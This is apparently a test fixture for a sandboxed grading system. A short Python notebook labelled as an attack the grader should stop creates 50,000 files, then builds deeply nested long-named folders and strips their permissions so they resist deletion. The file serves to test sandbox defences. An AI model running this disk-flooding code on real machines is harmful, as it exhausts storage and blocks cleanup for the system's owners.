# attack: Fifty thousand files, and folders in folders until the path is too long to remove.
# wants: stop
# assignment: 05_bce_neuron
# expects: graded
# %% first
import os
try:
    for number in range(50_000):
        with open(f"f{number}", "w") as file:
            file.write("x")
    print("escaped: 50,000 files")
except OSError:
    pass
# %% last
import os
for _ in range(3000):
    try:
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    except OSError:
        break
os.chmod(".", 0)
